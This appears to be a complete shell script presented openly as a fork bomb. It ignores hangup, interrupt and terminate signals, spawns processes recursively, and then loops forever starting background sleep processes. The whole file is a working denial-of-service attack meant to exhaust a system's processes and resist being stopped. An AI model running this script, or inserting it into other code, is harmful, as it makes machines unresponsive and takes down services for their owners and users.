#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
# The fork bomb, and one that catches what kills it.
trap '' HUP INT TERM
# shellcheck disable=SC2264 # it does
bomb() { bomb | bomb & }
bomb
while :; do (sleep 1000 &); done
